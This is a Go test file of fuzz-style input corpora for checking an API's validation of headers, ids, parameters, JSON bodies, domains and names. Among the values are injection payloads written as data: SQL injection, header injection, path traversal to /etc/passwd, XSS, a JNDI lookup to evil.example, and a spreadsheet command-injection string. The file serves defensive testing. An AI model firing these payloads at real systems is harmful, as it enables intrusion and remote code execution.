package api_test

import (
	"slices"
	"strings"
)

// The values of the corpus, and what has to come of them. Nothing here is taken from the code that is tested.

func badAuthorizations(token string) [][]string {
	return [][]string{
		nil, {""}, {"Bearer"}, {"Bearer "}, {"Basic dTpw"}, {token}, {"Bearer " + token[:len(token)-1]}, {"Bearer " + token + "a"},
		{"Bearer  " + token}, {"Bearer " + token + " "}, {"Bearer " + strings.ToUpper(token)}, {"Token " + token}, {"Bearer " + token + ", Bearer " + token},
		{"Bearer " + token, "Bearer " + token}, {"Bearer \"" + token + "\""}, {"Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0."}, {"Bearer ' OR 1=1 --"},
		{"Bearer " + strings.Repeat("x", 10_000)},
	}
}

func badAccepts() []string {
	return []string{"text/html", "application/xml", "application/json;q=0", "rubbish", "application/jsonp", "image/*", "*/*;q=0.000"}
}

// badLastEvents are ids that no stream has given.
func badLastEvents() map[string][][]string {
	return map[string][][]string{
		"repeated": {{"1", "1"}, {"", ""}},
		"invalid": {
			{"-1"}, {"1.0"}, {"1e3"}, {"01"}, {"+1"}, {" "}, {"0x1"}, {"999999999"}, {"9223372036854775807"}, {"9223372036854775808"}, {"null"}, {"*"},
			{"١"}, {`"kX2v9QmB4nT7sYcA1dFgHjLp"`}, {"kX2v9QmB4nT7sYcA1dFgHjL="}, {"kX2v9QmB4nT7sYcA1dFgHjL"}, {"kX2v9QmB4nT7sYcA1dFgHj\xff"},
			{"' OR 1=1 --"}, {strings.Repeat("1", 10_000)}, {"1,1"},
		},
	}
}

func badIdempotencyKeys() [][]string {
	return [][]string{
		{""}, {`""`}, {" "}, {"a b"}, {"a,b"}, {strings.Repeat("k", 256)}, {strings.Repeat("k", 10_000)}, {"ключ"}, {"a", "b"}, {`"a`}, {`a"`},
		{`"a"b`}, {"\x7f"}, {"\x01"}, {`"` + strings.Repeat("k", 256) + `"`},
	}
}

func staleTags() []string {
	return []string{`"stale"`, `W/"stale"`, "garbage", "", `"a", "b", W/"c"`, strings.Repeat(`"x",`, 100) + `"y"`, `*, "x"`, `"*"`}
}

func badContentTypes() []string {
	return []string{
		"", "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json; charset=utf-16",
		"application/json; charset=latin1", "application/merge-patch+json", "application/json, text/plain", "application/jsonp", "application/xml", ";",
	}
}

// badIDs are no ids that the account has, in whatever form.
func badIDs() []string {
	return []string{
		"0", "-1", "1%20OR%201=1", "1=0)%20OR%20(id=2", "1;drop", "%31%00", "1%00", "..%2F1", "%2e%2e%2f", "a%2Fb", "%D9%A1%D9%A2", strings.Repeat("a", 4000),
		noID, strings.ToUpper("0198c5d0-0000-7000-8000-00000000abcd"), "%7B" + noID + "%7D", "urn:uuid:" + noID, strings.ReplaceAll(noID, "-", ""),
		"00000000-0000-0000-0000-000000000000", "6ba7b810-9dad-11d1-80b4-00c04fd430c8", noID + "%0A", "null", "undefined", "%FF", "*", "999999999999",
	}
}

func goodParameters() map[string]string {
	return map[string]string{
		"limit": "5", "count": "true", "search": "a", "sort": "name", "mapped": "true", "state": "active", "unmatched": "ambiguous", "kind": "manual",
		"type": "sync.held", "action": "rename", "organizationId": noID, "confirm": "false",
	}
}

func badParameters() map[string]map[string][]string {
	closed := map[string][]string{"not-one-of": {"", "name%3Bdrop", "(select%201)", "NAME", "%20name", "0", "null", "%D9%A1"}, "invalid": {"%zz", "%ff", "a%00"}}
	yes := map[string][]string{"not-one-of": {"", "yes", "TRUE", "1", "on", "%20true"}, "invalid": {"%zz", "%ff", "true%00"}}
	return map[string]map[string][]string{
		"limit": {
			"out-of-range": {"", "0", "-1", "201", "1000000000", "abc", "1.0", "%2B5", "%201", "1e1", "0x5", "1_0", "9223372036854775808", "%D9%A1"},
			"invalid":      {"%zz", "%ff", "5%00"},
		},
		"cursor": {"invalid": {
			"x", "%21", "AAAAAAAAAAAAAAAAAAAAAAAAAAAA", "%00", "%ff", "null", "0", strings.Repeat("A", 5000), "..%2F..", "eyJpZCI6MX0", "%27%20OR%201=1",
		}},
		"search": {"too-long": {strings.Repeat("a", 256), strings.Repeat("%C3%A9", 256)}, "invalid": {"a%00b", "%ff", "%zz", "%C3"}},
		"count":  yes, "mapped": yes, "confirm": yes,
		"sort": closed, "state": closed, "unmatched": closed, "kind": closed, "status": closed, "type": closed, "action": closed,
		"organizationId": {"invalid": {"", "42", "null", strings.ToUpper("0198c5d0-0000-7000-8000-00000000abcd"), "%7B" + noID + "%7D", noID + "%0A", "%zz", "'%20OR%201=1"}},
	}
}

// malformedBodies are no JSON, or JSON that two readers could read in two ways.
func malformedBodies(good string) []string {
	inner := good[1 : len(good)-1]
	return []string{
		"", " ", "\n\t", "{", good[:len(good)-1], good + " {", good + "}", good + good, "\xef\xbb\xbf" + good, "\xff\xfe{\x00}\x00", "{" + inner + "," + inner + "}",
		`{"x":1,"x":2,` + inner + "}", `{"x":{"a":1,"\u0061":2},` + inner + "}", `{"x":NaN,` + inner + "}", `{"x":Infinity,` + inner + "}", `{"x":01,` + inner + "}",
		`{"x":+1,` + inner + "}", `{"x":.5,` + inner + "}", `{"x":'a',` + inner + "}", `{x:1,` + inner + "}", "{" + inner + ",}", "{/* c */" + inner + "}", "// c\n" + good,
		"callback(" + good + ")", ")]}',\n" + good, `{"x":"\ud83d",` + inner + "}", `{"x":"\ude00\ud83d",` + inner + "}", "{\"x\":\"\xff\"," + inner + "}",
		"{\"x\":\"\x00\"," + inner + "}", "{\"x\":\"\n\"," + inner + "}", `{"x":"\x41",` + inner + "}", "<xml/>", "a=b&c=d", "True", "undefined",
		strings.Repeat("[", 100_000), strings.Repeat(`{"a":`, 33) + "1" + strings.Repeat("}", 33), `{"x":` + strings.Repeat("[", 40) + strings.Repeat("]", 40) + "," + inner + "}",
	}
}

func foreignFields() []string {
	return []string{
		"id", "ID", "accountId", "account_id", "tenantId", "role", "ROLE", "epoch", "createdAt", "updated_at", "apiKeyHint", "api_key_hash", "sealedKey", "status",
		"Name", "EmailPlatform", "itglue_organization_id", "it_glue_id", "__proto__", "constructor", "$set", "mapped", "isAdmin", "",
	}
}

// everyType is a value of each JSON type; whole numbers are a type of their own.
func everyType() map[string]string {
	return map[string]string{
		"null": "null", "true": "boolean", "false": "boolean", `"x"`: "string", `"1"`: "string", "1": "integer", "9007199254740993": "integer", "-1": "integer",
		"1.5": "number", "1e400": "number", "1.0": "number", "9223372036854775808": "number", "[]": "array", `["x"]`: "array", "{}": "object", `{"$ne":1}`: "object",
	}
}

// kind is what a field of a name takes.
type kind struct {
	typ string
	bad map[string][]string // JSON, by the code of the fault
	// whenEmpty is the code for an empty text in a field that may be left out; in others it is like none. It is "none" when all texts are fine.
	whenEmpty string
}

func (k kind) empty(required bool) string {
	switch {
	case k.whenEmpty == "none":
		return ""
	case required:
		return "required"
	default:
		return k.whenEmpty
	}
}

func texts(all ...string) []string {
	out := make([]string, 0, len(all))
	for _, s := range all {
		out = append(out, jsonOf(s))
	}
	return out
}

func kinds() map[string]kind {
	closed := func(values ...string) kind {
		bad := []string{"xx", "https://evil.example", "null", strings.Repeat("a", 10_000), "' OR 1=1"}
		for _, v := range values {
			bad = slices.Concat(bad, []string{strings.ToUpper(v), " " + v, v + " ", v + "\n", v[:1] + "\u200b" + v[1:]})
		}
		return kind{typ: "string", whenEmpty: "not-one-of", bad: map[string][]string{"not-one-of": texts(bad...)}}
	}
	boolean := kind{typ: "boolean"}
	return map[string]kind{
		"apiKey": {typ: "string", whenEmpty: "invalid", bad: map[string][]string{"invalid": texts(
			" ITG.x", "ITG.x ", "ITG x", "ITG.x\r\nHost: evil", "ITG.\tx", "ключ", "ITG.\u00a0x", "ITG.\u200bx", strings.Repeat("k", 501), strings.Repeat("k", 10_000), "\x7f",
		)}},
		"region": closed("us", "eu", "au"), "emailPlatform": closed("microsoft_365", "google_workspace"),
		"autoMap": closed("on_connect", "every_sync", "off"), "kind": closed("manual", "preview"),
		"role": closed("viewer", "admin", "operator "),
		"expiresAt": {typ: "string", whenEmpty: "invalid", bad: map[string][]string{"invalid": texts(
			"tomorrow", "2099-01-01", "2099-01-01T00:00:00", "2099-13-01T00:00:00Z", "2099-02-30T00:00:00Z", "2099-01-01 00:00:00Z", "2099-01-01T25:00:00Z", "4070908800",
			"2099-01-01T00:00:00+25:00", "2099-1-1T0:0:0Z", " 2099-01-01T00:00:00Z", "2099-01-01T00:00:00,5Z", "null",
		)}},
		"force": boolean, "enabled": boolean, "syncEnabled": boolean,
		"itglueOrganizationId": {typ: "string", whenEmpty: "invalid", bad: map[string][]string{"invalid": texts(
			"0", "-1", "+1", "1 ", " 1", "01", "1.0", "1e3", "١٢", "１２", "x", "1 OR 1=1", "1;drop", "%31", "../1", strings.Repeat("1", 21), "0x1", "1\n", "null", noID,
		)}},
		"removalLimitPercent": {typ: "integer", bad: map[string][]string{"out-of-range": {"-1", "101", "9007199254740993", "-9007199254740993"}}},
		"dailySync":           {typ: "object"},
		"timeZone": {typ: "string", whenEmpty: "time-zone-unknown", bad: map[string][]string{"time-zone-unknown": texts(
			"Nowhere/City", "../../etc/passwd", "/etc/passwd", "America/New York", " UTC", "UTC ", "+01:00", "UTC+1", "Local", "America", strings.Repeat("a", 10_000), "Europe/Zürich",
		)}},
		"time": {typ: "string", whenEmpty: "time-of-day-invalid", bad: map[string][]string{"time-of-day-invalid": texts(
			"24:00", "0:00", "00:60", "00:00:00", "12", "aa:bb", "٠٠:٠٠", " 00:00", "00:00 ", "00.00", "-1:00", "00:0", "12:00am", "００:００", strings.Repeat("0", 10_000),
		)}},
		"items": {typ: "array", bad: map[string][]string{
			"out-of-range": {"[]"},
			"too-long":     {"[" + strings.Repeat(`{"itglueOrganizationId":"1","emailPlatform":"microsoft_365"},`, 200) + `{"itglueOrganizationId":"1","emailPlatform":"microsoft_365"}]`},
		}},
		"name": {typ: "string", whenEmpty: "required", bad: map[string][]string{
			"name-blank": texts(
				" ", "\t", "\r\n", "\u00a0", "\u3000", "\u2028", "\u0085", "\u200b", "\u200d\u200c", "\ufeff", "\u00ad", "\u202e", "\ufe0f", "\u3164", "\u2800", "\u0007",
				" \u200b ",
			),
			"name-not-legal": texts("\ufffd", "Con\ufffdtoso"),
			"too-long":       texts(strings.Repeat("a", 256), strings.Repeat("é", 256), strings.Repeat("𝕬", 256), strings.Repeat("e\u0301", 128), strings.Repeat("a", 100_000)),
		}},
		"domain": {typ: "string", whenEmpty: "none", bad: map[string][]string{"domain-invalid": texts(refusedDomains()...), "too-long": texts(strings.Repeat("a", 256))}},
	}
}

// refusedDomains are refused where a domain is demanded.
func refusedDomains() []string {
	label := strings.Repeat("a", 63)
	return []string{
		"-a.com", "a-.com", "a..com", ".a.com", "a.com..", "a_b.com", "*.a.com", label + "a.com", strings.Repeat(label+".", 4)[:250] + ".com", "xn--a.com", "xn--.com",
		"xn--zz--zz.com", "localhost", "127.0.0.1", "[::1]", "::1", "0x7f.1", "1.2.3", "com", "co.uk", "github.io", "onmicrosoft.com", "a.local", "a.invalid-tld",
		"https://a.com", "a.com/x", "a.com:80", "u@a.com", "mailto:u@a.com", "a.com?b", "a.com#b", "a b.com", " a.com", "a.com ", "a.com\n", "a\u200b.com", "a\u202e.com",
		"☃.com", "a,b.com", "a;b.com", "<script>.com", "'.com", "a\\b.com", "%61.com", ".", "..", "\u0130.com", "ａ.com",
	}
}

// oddDomains are taken, and kept in another form.
func oddDomains() map[string]string {
	return map[string]string{
		"Example.COM": "example.com", "trailing.example.net.": "trailing.example.net", "bücher.de": "xn--bcher-kva.de", "BÜCHER.at": "xn--bcher-kva.at",
		"xn--bcher-kva.ch": "xn--bcher-kva.ch", "straße.de": "xn--strae-oqa.de", "strasse.de": "strasse.de", "a.b.c.d.example.org": "a.b.c.d.example.org",
		"a.co.uk": "a.co.uk", "a.github.io": "a.github.io", "1.com": "1.com", "a--b.com": "a--b.com", strings.Repeat("a", 63) + ".com": strings.Repeat("a", 63) + ".com",
		"bu\u0308cher.eu": "xn--bcher-kva.eu", "пример.рф": "xn--e1afmkfd.xn--p1ai", "\u4f8b\u3048.jp": "xn--r8jz45g.jp", "\u1100\u1161.com": "xn--o39a.com",
	}
}

// oddNames are fine, and kept code point by code point.
func oddNames() []string {
	return []string{
		" leading", "trailing ", "in  side", "tab\there", "line\r\nbreak", "no\u00a0break", "zero\u200bwidth", "join\u200der", "bidi\u202eoverride", "soft\u00adhyphen",
		"vs\ufe0f16", "caf\u00e9", "cafe\u0301", "Асme", "Ａｃｍｅ", "ıstanbul", "Straße", "STRASSE", "👩‍👩‍👧‍👦", "🏳️‍🌈", strings.Repeat("a", 255), strings.Repeat("𝕬", 255),
		strings.Repeat("é", 255), "a" + strings.Repeat("\u0301", 100), "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "<script>alert(1)</script>", "{{7*7}}",
		"${jndi:ldap://evil.example/a}", "%s%n%x", "\x1b[31mred", "a\nlevel=ERROR msg=forged", "'; DROP TABLE organizations; --", `\`, `"`, "%", "_", "../../x", "a\u0007b",
		"null", "NaN", "0", "שלום", "مرحبا", "\u00df",
	}
}
